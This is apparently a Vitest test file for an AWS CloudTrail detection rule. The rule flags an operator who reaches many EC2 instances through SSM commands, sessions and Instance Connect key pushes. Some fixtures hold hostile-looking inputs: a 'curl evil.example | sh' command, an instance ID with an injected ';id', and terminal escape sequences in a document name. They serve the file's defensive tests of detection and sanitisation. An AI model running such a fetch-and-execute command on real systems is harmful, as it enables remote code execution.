import { describe, expect, it } from 'vitest';
import { FINDINGS, remoteSessionSpread } from '../../../functions/remote-session-spread/rule.js';
import type { RemediationRecord } from '../../../shared/remediation-log.js';
import { run } from '../../../shared/runner/run.js';
import { memoryStateStore } from '../../../shared/state/store.js';
import { capturingDeps, expectedOutcome, loadSample, sampleNames, withDetail } from '../../helpers/samples.js';

const RULE = 'remote-session-spread';
const SEND = loadSample(RULE, 'alerted.send-command-uncounted');
const SESSION = loadSample(RULE, 'alerted.start-session-uncounted');
const KEY = loadSample(RULE, 'alerted.ssh-public-key-pushed-uncounted');
const SERIAL = loadSample(RULE, 'alerted.serial-console-key-pushed-uncounted');
const OPERATOR = 'arn:aws:iam::111122223333:role/example-operator';
const at = (minute: number, second = 0) => `2026-11-25T12:${String(minute).padStart(2, '0')}:${String(second).padStart(2, '0')}Z`;
const instance = (n: number) => `i-0${n.toString(16).padStart(16, '0')}`;

/** A sample as the operator's role (the key push sample is an IAM user's), at a time, with a fresh event id. */
function call(base: unknown, n: number, time: string, requestParameters: Record<string, unknown>): unknown {
  const identity = (loadSample(RULE, 'alerted.send-command-uncounted') as { userIdentity: unknown }).userIdentity;
  const event = withDetail(base, { eventTime: time, eventID: `rss-${n}-${time}`, requestParameters, userIdentity: identity });
  return { ...(event as Record<string, unknown>), id: `envelope-rss-${n}-${time}` };
}

async function runAll(events: readonly unknown[]) {
  const deps = { ...capturingDeps({ mode: 'live' }), store: memoryStateStore() };
  const records: RemediationRecord[] = [];
  for (const event of events) records.push(await run(remoteSessionSpread, event, deps));
  return { records, deps };
}

describe('remote-session-spread offline (no state store, as in replay)', () => {
  it.each(sampleNames(RULE))('decides the sample %s as its name says', async (name) => {
    const record = await run(remoteSessionSpread, loadSample(RULE, name), capturingDeps());
    expect(record.outcome, record.reason).toBe(expectedOutcome(name));
  });

  it('reports each call at LOW with its instances and document, never the command text', async () => {
    const record = await run(remoteSessionSpread, SEND, capturingDeps());
    expect(record).toMatchObject({ outcome: 'alerted', severity: 'LOW', finding: 'remote-session-uncounted', resources: [{ id: OPERATOR }] });
    expect(record.reason).toContain('i-0a1b2c3d4e5f60718, i-0b1c2d3e4f5a60719, i-0c1d2e3f4a5b6071a');
    expect(record.reason).toContain('SendCommand of AWS-RunShellScript (the commands are not logged');
    const withText = await run(
      remoteSessionSpread,
      withDetail(SEND, {
        requestParameters: { instanceIds: [instance(1)], documentName: 'AWS-RunShellScript', parameters: { commands: ['curl evil.example | sh'] } },
      }),
      capturingDeps(),
    );
    expect(withText.reason).not.toContain('curl');
  });

  it('names the OS user of a key push and the serial port, never the key', async () => {
    const key = await run(remoteSessionSpread, KEY, capturingDeps());
    expect(key.reason).toContain('SendSSHPublicKey for OS user ec2-user');
    expect(key.reason).not.toContain('ssh-ed25519');
    const serial = await run(remoteSessionSpread, SERIAL, capturingDeps());
    expect(serial.reason).toContain('serial port 0');
  });

  it('alerts HIGH on a command to every instance, and counts a tag target as one item named by the tag', async () => {
    const every = await run(remoteSessionSpread, loadSample(RULE, 'alerted.commands-sent-to-every-instance'), capturingDeps());
    expect(every).toMatchObject({ severity: 'HIGH', finding: 'commands-sent-to-every-instance' });
    const tag = await run(remoteSessionSpread, loadSample(RULE, 'alerted.send-command-by-tag-uncounted'), capturingDeps());
    expect(tag).toMatchObject({ severity: 'LOW', finding: 'remote-session-uncounted' });
    expect(tag.reason).toContain('tag:Environment=production (target)');
  });

  it('takes invokedBy ssm.amazonaws.com as routine only for AWS-owned patching and agent documents', async () => {
    const viaSsm = (documentName: string, targets: unknown) => {
      const base = loadSample(RULE, 'compliant.commands-sent-by-state-manager');
      return withDetail(base, { requestParameters: { targets, documentName, parameters: 'HIDDEN_DUE_TO_SECURITY_REASONS' } });
    };
    const everywhere = [{ key: 'InstanceIds', values: ['*'] }];
    // Automation's aws:runCommand (or a window task a person just registered) sends a shell everywhere through SSM.
    const shell = await run(remoteSessionSpread, viaSsm('AWS-RunShellScript', everywhere), capturingDeps());
    expect(shell).toMatchObject({ outcome: 'alerted', severity: 'HIGH', finding: 'commands-sent-to-every-instance' });
    const patching = await run(remoteSessionSpread, viaSsm('AWS-RunPatchBaseline', everywhere), capturingDeps());
    expect(patching.outcome).toBe('compliant');
    // A shared document from another account may carry the same name after its ARN: only AWS's own name is routine.
    const shared = await run(remoteSessionSpread, viaSsm('arn:aws:ssm:eu-west-1:444455556666:document/AWS-RunPatchBaseline', everywhere), capturingDeps());
    expect(shared.finding).toBe('commands-sent-to-every-instance');
  });

  it('fails, naming the field, on unreadable requests', async () => {
    const cases: [unknown, string][] = [
      [withDetail(SEND, { requestParameters: { documentName: 'AWS-RunShellScript' } }), 'detail.requestParameters.instanceIds'],
      [withDetail(SEND, { requestParameters: { instanceIds: ['i-0abc;id'] } }), 'detail.requestParameters.instanceIds.0'],
      [withDetail(SEND, { requestParameters: { targets: [{ key: 'InstanceIds', values: ['not-an-id'] }] } }), 'detail.requestParameters.targets.0.values.0'],
      [withDetail(SESSION, { requestParameters: {} }), 'detail.requestParameters.target'],
      [withDetail(KEY, { requestParameters: { instanceOSUser: 'ec2-user' } }), 'detail.requestParameters.instanceId'],
    ];
    for (const [event, field] of cases) {
      const record = await run(remoteSessionSpread, event, capturingDeps());
      expect(record.outcome, field).toBe('failed');
      expect(record.error?.message).toContain(field);
    }
  });

  it('declares its finding codes', () => {
    expect(FINDINGS).toEqual(['remote-session-spread', 'remote-session-uncounted', 'commands-sent-to-every-instance']);
  });
});

describe('remote-session-spread with the state store', () => {
  it('counts every kind of call toward one tally: quiet at 9 distinct instances, one alert at 10, none after in the window', async () => {
    const events = [
      call(SEND, 0, at(1), { instanceIds: [1, 2, 3, 4].map(instance), documentName: 'AWS-RunShellScript' }),
      call(SESSION, 1, at(2), { target: instance(5) }),
      call(KEY, 2, at(3), { instanceId: instance(6), instanceOSUser: 'ec2-user' }),
      call(SERIAL, 3, at(4), { instanceId: instance(7), serialPort: 0 }),
      call(SEND, 4, at(5), { targets: [{ key: 'InstanceIds', values: [instance(8), instance(9)] }], documentName: 'AWS-RunShellScript' }),
      call(SESSION, 5, at(6), { target: instance(10) }),
      call(SESSION, 6, at(7), { target: instance(11) }),
    ];
    const { records, deps } = await runAll(events);
    expect(records.map((r) => r.outcome)).toEqual(['compliant', 'compliant', 'compliant', 'compliant', 'compliant', 'alerted', 'compliant']);
    expect(records[4]?.reason).toContain(': 9 distinct instances reached');
    expect(records[5]).toMatchObject({ severity: 'HIGH', finding: 'remote-session-spread', resources: [{ id: OPERATOR }] });
    expect(records[5]?.reason).toContain('10 distinct instances reached (SSM commands, sessions, Instance Connect keys) within the 30 min up to 12:06 UTC');
    expect(records[5]?.reason).toContain(`first ${instance(1)}, latest ${instance(10)}`);
    expect(records[5]?.reason).toContain('this call: StartSession, an interactive shell');
    expect(records[6]?.reason).toContain('already alerted in this window');
    expect(deps.published).toHaveLength(1);
  });

  it('counts commands a principal sends through SSM Automation (invokedBy ssm.amazonaws.com) with a shell document', async () => {
    const automation = (n: number) => {
      const event = call(SEND, n, at(9, n), { instanceIds: [instance(2 * n + 1), instance(2 * n + 2)], documentName: 'AWS-RunShellScript' });
      const detail = (event as { userIdentity: Record<string, unknown> }).userIdentity;
      return { ...(event as object), userIdentity: { ...detail, invokedBy: 'ssm.amazonaws.com' } };
    };
    const { records } = await runAll([0, 1, 2, 3, 4].map(automation));
    expect(records.map((r) => r.outcome)).toEqual(['compliant', 'compliant', 'compliant', 'compliant', 'alerted']);
  });

  it('never alerts on sessions and commands to the same few instances, however many', async () => {
    const few = [0xabc1, 0xabc2, 0xabc3].map(instance);
    const events = Array.from({ length: 60 }, (_, i) =>
      i % 3 === 0
        ? call(SEND, i, at(i % 60), { instanceIds: few, documentName: 'AWS-RunShellScript' })
        : call(SESSION, i, at(i % 60), { target: (few[i % 3] ?? '').toUpperCase() }),
    );
    const { records } = await runAll(events);
    expect(records.filter((r) => r.outcome === 'alerted')).toEqual([]);
    expect(records.at(-1)?.reason).toContain(': 3 distinct instances reached');
  });

  it('keeps control characters of a session target and a document name out of the text a person reads', async () => {
    const events = [
      ...Array.from({ length: 9 }, (_, i) => call(SESSION, i, at(8, i), { target: instance(i + 1) })),
      call(SEND, 9, at(8, 30), { targets: [{ key: 'tag:Name\u001b[31m', values: ['x\u0007'] }], documentName: 'Evil\u001b]0;pwned\u0007' }),
    ];
    const { records } = await runAll(events);
    expect(records.at(-1)?.outcome).toBe('alerted');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this test looks for
    expect(records.at(-1)?.reason).not.toMatch(/[\u0000-\u001f\u007f]/);
  });
});
